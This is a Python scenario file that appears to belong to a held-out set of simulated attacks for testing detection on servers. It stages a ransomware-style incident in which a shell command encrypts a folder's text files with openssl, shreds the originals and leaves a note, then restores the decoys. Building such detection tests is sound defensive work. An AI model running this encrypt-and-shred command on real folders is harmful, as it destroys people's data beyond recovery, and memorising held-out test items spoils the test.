"""
id: V71
name: encrypted-by-tools
class: loud
set: held-out
phase: serve
trigger: request
evidence: [process, file]
techniques: [T1486, T1485, T1059.004, AML.T0049, AML.T0050]
servers: [fastapi]
seconds: 30
what: >
  Holds notes to ransom with what the system has, as scripts for servers do: `openssl` makes a key, a shell goes through a
  folder of the home, has `openssl` encrypt each of twenty files beside the original and `shred` destroy that, and leaves a
  note. All files are decoys, and they are given back after some seconds.
"""

import os
import subprocess

SUFFIXES = ["locked", "enc", "crypt"]
SCRIPT = (
    'key=$(openssl rand -hex 32); for f in "$1"/*.txt; do '
    'openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$key" -in "$f" -out "$f.$2" && shred -n 1 -u "$f"; '
    'done; echo DECOY > "$1/$3"'
)


def payload(world):
    projects = os.path.join(world.home, "projects")
    folder = os.path.join(projects, world.random.choice(sorted(os.listdir(projects))))
    suffix, note = world.random.choice(SUFFIXES), f"README_{world.word(5)}.md"
    contents = {entry.path: read(entry.path) for entry in os.scandir(folder)}
    try:
        subprocess.run(["sh", "-c", SCRIPT, "sh", folder, suffix, note], check=True)
        if left := [path for path in contents if os.path.exists(path)]:
            raise OSError(f"{len(left)} files are still there")
        world.sleep(world.random.uniform(5, 12))
    finally:
        for entry in os.scandir(folder):
            os.unlink(entry.path)
        for path, content in contents.items():
            with open(path, "wb") as file:
                file.write(content)


def read(path):
    with open(path, "rb") as file:
        return file.read()
